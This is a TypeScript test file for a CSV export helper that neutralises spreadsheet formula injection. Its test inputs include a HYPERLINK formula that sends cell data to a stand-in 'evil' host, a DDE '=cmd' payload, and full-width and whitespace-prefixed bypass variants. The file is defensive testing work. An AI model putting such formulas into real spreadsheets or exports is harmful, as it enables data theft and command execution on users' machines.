import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import { describe, expect, it } from "vitest";
import { csvCell, toCsv } from "../src/lib/csv";

describe("csvCell", () => {
  it.each([
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
  ])("prefixes text a spreadsheet would run: %j", (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
  });

  it.each(["plain", "job:ns:etl.load", "1=1", "a-b", "mail@example.org", "", "'=quoted"])("keeps other text: %j", (text) => {
    expect(csvCell(text)).toBe(text);
  });

  it("keeps numbers numbers and writes empty values and dates", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(2.5)).toBe("2.5");
    expect(csvCell(Number.NaN)).toBe("");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(new Date("2026-01-02T03:04:05Z"))).toBe("2026-01-02T03:04:05.000Z");
  });
});

describe("toCsv", () => {
  it("neutralises header and cells and quotes separators", () => {
    expect(toCsv(["Name", "=Header"], [['=cmd|"/c calc"!A1', 'a,"b"\nc'], [null, -1]])).toBe(
      `Name,'=Header\r\n"'=cmd|""/c calc""!A1","a,""b""\nc"\r\n,-1\r\n`,
    );
  });
});

/** Every file under src/, as [path relative to src/, text]. */
function sources(dir: string, root = dir): Array<[string, string]> {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return sources(path, root);
    // Declarations hold no code (openapi.d.ts documents the API's text/csv responses).
    return /\.(ts|tsx)$/.test(name) && !name.endsWith(".d.ts") ? [[relative(root, path), readFileSync(path, "utf8")] as [string, string]] : [];
  });
}

describe("every UI-side CSV export goes through lib/csv", () => {
  it("no other module builds CSV in the browser", () => {
    const src = join(__dirname, "..", "src");
    const offenders = sources(src)
      .filter(([path]) => path !== join("lib", "csv.ts"))
      // A CSV built here: its MIME type, or a .csv download name. (Links to the server's .csv exports are fine:
      // those are written by lineage_backend/services/csv_export.py.)
      .filter(([, text]) => /text\/csv|\.download\s*=\s*[^;\n]*\.csv|downloadText\([^)]*\.csv/.test(text))
      .filter(([, text]) => !/from "(\.\.\/)+lib\/csv"|from "\.\/csv"/.test(text))
      .map(([path]) => path);
    expect(offenders).toEqual([]);
  });
});
